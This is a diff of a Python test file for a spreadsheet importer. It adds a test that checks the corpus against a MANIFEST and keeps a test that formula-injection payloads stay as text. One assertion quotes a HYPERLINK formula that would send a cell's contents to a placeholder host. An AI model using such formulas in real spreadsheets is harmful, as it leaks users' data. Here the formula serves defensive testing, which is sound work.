@@ -1,11 +1,13 @@
-"""Every file of the shared robustness corpus: rows or a clear German message, never a crash.
+"""Every file of the robustness corpus: rows or a clear German message, never a crash.
 
-The files are read where they lie (never copied into the repository); the test is skipped
-when the shared folder is missing. One test per file, so xdist spreads the big ones.
+The corpus lives in ``tests/data/spreadsheets`` (provenance and licences in its MANIFEST).
+One test per file, so xdist spreads the big ones.
 """
 
 from __future__ import annotations
 
+import csv
+import hashlib
 import re
 import time
 from pathlib import Path
@@ -42,12 +44,10 @@ EXPECTED = {
     "dimension_far_cell.xlsx": None,
     "guest_list_injection_payloads.xlsx": None,
     "xlrd__Formate.xls": None,
-    "lo-testfiles__row-height-calc-on-import.ods": None,
     "frictionless__latin1.csv": None,
 }
 
 
-@pytest.mark.skipif(not CORPUS, reason="shared spreadsheet corpus not available")
 @pytest.mark.parametrize("path", CORPUS, ids=lambda p: f"{p.parent.name}/{p.name}")
 def test_corpus_file(path: Path) -> None:
     start = time.monotonic()
@@ -76,15 +76,11 @@ def test_corpus_file(path: Path) -> None:
 
 def test_hidden_rows_are_found_in_the_corpus() -> None:
     path = SPREADSHEETS / "real" / "lo-testfiles__row-filtered.xls"
-    if not path.exists():
-        pytest.skip("corpus missing")
     assert len(read_workbook(path).sheets[0].hidden_rows) > 10
 
 
 def test_injection_payloads_stay_text() -> None:
     path = SPREADSHEETS / "hostile" / "guest_list_injection_payloads.xlsx"
-    if not path.exists():
-        pytest.skip("corpus missing")
     plan = preview(path, "guests")
     organisations = [getattr(obj, "organisation", "") for obj in plan.changes]
     assert '=HYPERLINK("http://example.invalid/?d="&B3,"Klick")' in organisations
@@ -98,4 +94,19 @@ def test_injection_payloads_stay_text() -> None:
         6,
         7,
     ]  # "-Bürgerstiftung" too; "+49 30 1234" is a number
-    assert all(n.column == "C" for r in warned for n in r.notes)
+    formula_notes = [n for r in warned for n in r.notes if "Formel" in n.text]
+    assert all(n.column == "C" for n in formula_notes)  # the others say "gleichnamig"
+
+
+def test_corpus_is_complete_and_unchanged() -> None:
+    """Every MANIFEST row is present byte for byte, so the parametrised test cannot shrink."""
+    with (SPREADSHEETS / "MANIFEST.tsv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh, delimiter="\t"))
+    listed = {row["file"]: row for row in rows}
+    assert sorted(listed) == sorted(f"{p.parent.name}/{p.name}" for p in CORPUS)
+    for name, row in listed.items():
+        data = (SPREADSHEETS / name).read_bytes()
+        assert len(data) == int(row["bytes"]), name
+        assert hashlib.sha256(data).hexdigest()[:16] == row["sha256[:16]"], name
+        assert row["licence"], name
+    assert set(EXPECTED) <= {p.name for p in CORPUS}
